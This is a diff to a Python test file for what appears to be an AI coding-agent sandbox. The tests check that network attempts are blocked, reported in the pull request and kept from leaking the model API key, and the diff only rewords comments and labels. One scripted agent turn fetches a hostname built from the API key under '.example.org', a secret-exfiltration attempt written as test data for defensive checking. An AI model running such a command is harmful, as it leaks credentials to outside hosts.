@@ -1,4 +1,4 @@
-"""A run whose agent tries the network: what it hears, what the maintainer reads, and what the tests get of it."""
+"""The agent tries to use the network: its error, the report to the maintainer, and the effect on the tests."""
 
 from collections.abc import Callable
 
@@ -26,10 +26,10 @@ async def test_a_denied_host_is_named_to_the_agent_and_in_the_pull_request(
     scenario = make_scenario(files={"calc.py": CODE, "tests/test_calc.py": OFFLINE})
     scenario.environment["PATCHWRIGHT_SANDBOX"] = "docker"
     leak = RunShell(command=FETCH.format("github.com"))
-    # A key of ours that the model knows is no secret any more, but it goes no further than this.
+    # The model knows this key, so it is no secret any more; but it reaches nobody else.
     known = RunShell(command=FETCH.format(f"{scenario.environment['PATCHWRIGHT_MODEL_API_KEY']}.example.org"))
     await scenario.script_model(
-        RecordedTurn("Ask.", leak, known), RecordedTurn("Mend.", FIX, NEW_TEST), RecordedTurn("Done.", DONE)
+        RecordedTurn("Ask.", leak, known), RecordedTurn("Fix.", FIX, NEW_TEST), RecordedTurn("Done.", DONE)
     )
     outcome = await scenario.resolve()
     assert isinstance(outcome, Published) and outcome.verdict.kind == "fixed", outcome
@@ -42,7 +42,7 @@ async def test_a_denied_host_is_named_to_the_agent_and_in_the_pull_request(
     assert "blocked: `github.com` (it is not on the allowlist (setting `allowed_hosts`))" in line
     assert scenario.environment["PATCHWRIGHT_MODEL_API_KEY"] not in line + heard
     assert any(isinstance(event, NetworkAccess) for event in scenario.trajectory())
-    # The tests were run where there is no way out: they say so themselves.
+    # The tests ran without network, and report it themselves.
     assert outcome.verdict.after is not None
     assert outcome.verdict.after.results["tests/test_calc.py::test_there_is_no_way_out"] == "passed"
 
@@ -52,7 +52,7 @@ async def test_a_sandbox_without_network_is_reported_as_such(make_scenario: Call
     scenario.environment |= {"PATCHWRIGHT_SANDBOX": "docker", "PATCHWRIGHT_NETWORK": "none"}
     await scenario.script_model(
         RecordedTurn("Ask.", RunShell(command=FETCH.format("pypi.org"))),
-        RecordedTurn("Mend.", FIX),
+        RecordedTurn("Fix.", FIX),
         RecordedTurn("D.", DONE),
     )
     await scenario.resolve()
